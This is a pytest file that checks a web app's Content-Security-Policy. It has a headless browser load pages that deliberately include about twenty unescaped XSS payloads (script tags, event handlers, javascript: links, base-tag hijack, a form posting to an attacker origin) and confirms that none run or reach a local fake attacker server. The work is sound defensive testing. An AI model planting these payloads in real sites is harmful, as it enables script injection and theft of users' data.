"""Pages show what researchers wrote (purposes, file names, cells, comments) to reviewers and
staff.  If a template ever forgets to escape it, the browser must still run none of it and send
nothing anywhere: every page of every app carries the factory's Content-Security-Policy.

A real headless Chromium loads, from a real uvicorn, a page of a hardened app that puts each
payload in unescaped - the forgotten escape - while a second server on another address plays
the attacker's host and records every request that reaches it."""
from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse

from enclave.web.factory import PAGE_CSP, harden
from tests.identity.helpers import serve
from tests.services.browser import ARGS, CHROMIUM
from tests.services.net import free_port

MARK = "document.title='PWNED'"
# {a}: the attacker's origin.  Each runs script, loads from elsewhere or sends a form elsewhere
# when nothing stops it; ``click`` names an element a person would click on the page.
PAYLOADS = {
    "script element": (f"<script>{MARK}</script>", None),
    "img onerror": (f'<img src="/nothing.png" onerror="{MARK}">', None),
    "svg onload": (f'<svg onload="{MARK}"></svg>', None),
    "body onload": (f'<body onload="{MARK}">', None),
    "details ontoggle": (f'<details open ontoggle="{MARK}"><summary>x</summary></details>', None),
    "iframe srcdoc": ('<iframe srcdoc="<script>parent.document.title=\'PWNED\'</script>"></iframe>', None),
    "data: script": (f'<script src="data:text/javascript,{MARK}"></script>', None),
    "javascript: link": (f'<a id="go" href="javascript:void({MARK})">open</a>', "#go"),
    "onclick button": (f'<button id="go" onclick="{MARK}">open</button>', "#go"),
    "foreign script": ('<script src="{a}/x.js"></script>', None),
    "foreign image": ('<img src="{a}/leak.png?cell=3">', None),
    "css background": ('<style>body{{background:url({a}/bg.png)}}</style>', None),
    "foreign stylesheet": ('<link rel="stylesheet" href="{a}/s.css">', None),
    "object": ('<object data="{a}/o.html" type="text/html"></object>', None),
    "embed": ('<embed src="{a}/e.html" type="text/html">', None),
    "iframe elsewhere": ('<iframe src="{a}/frame"></iframe>', None),
    "base hijack": ('<base href="{a}/"><script src="x.js"></script><img src="y.png">', None),
    "form elsewhere": ('<form action="{a}/steal" method="post"><input name="cell" value="3">'
                       '<button id="go">continue</button></form>', "#go"),
    "prefetch": ('<link rel="prefetch" href="{a}/prefetch">', None),
    "video poster": ('<video poster="{a}/poster.png"></video>', None),
}


class _Attacker(BaseHTTPRequestHandler):
    hits: list[str] = []

    def _record(self):
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/javascript")
        self.end_headers()
        self.wfile.write(MARK.encode())

    do_GET = do_POST = _record

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def attacker():
    server = ThreadingHTTPServer(("127.0.0.2", free_port()), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.2:{server.server_address[1]}"
    server.shutdown()


@pytest.fixture(scope="module")
def forgetful_app(attacker):
    app = FastAPI()

    @app.get("/page/{name}", response_class=HTMLResponse)
    def page(name: str):  # the payload put in unescaped, as a template that forgot |e would
        return f"<!doctype html><html><head><title>ok</title></head><body><p>purpose: " \
               f"{PAYLOADS[name][0].format(a=attacker)}</p></body></html>"

    harden(app)
    with serve(app) as base:
        yield base


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip("chromium is not installed (apt-get install chromium)")
    from playwright.sync_api import sync_playwright
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_an_unescaped_payload_runs_nothing_and_sends_nothing(forgetful_app, browser, name):
    _Attacker.hits.clear()
    page = browser.new_page()
    try:
        r = page.goto(f"{forgetful_app}/page/{name}")
        assert r.headers.get("content-security-policy") == PAGE_CSP
        click = PAYLOADS[name][1]
        if click:
            page.click(click, timeout=2000, no_wait_after=True)
        page.wait_for_timeout(400)
        assert page.title() != "PWNED", f"{name}: the page's script ran"
    finally:
        page.close()
    assert _Attacker.hits == [], f"{name}: the browser reached the attacker's host: {_Attacker.hits}"


def test_every_app_sends_the_policy_on_pages_answers_and_refusals(db_url, tmp_path, nhi_policy):
    from egress_review.api import create_app as review_app
    from enclave.web.app import create_app as control_app

    for app in (control_app(db_url, nhi_policy),
                review_app(db_url, nhi_policy, store_dir=tmp_path / "s", release_dir=tmp_path / "r",
                           recover_on_start=False)):
        with serve(app) as base, httpx.Client(base_url=base, timeout=30) as http:
            for r in (http.get("/login"), http.get("/api/me"), http.get("/no-such-page"),
                      http.post("/login", data={"username": "a", "password": "b"},
                                headers={"origin": "https://evil.example"})):
                assert r.headers.get("content-security-policy") == PAGE_CSP, (base, r.request.url)
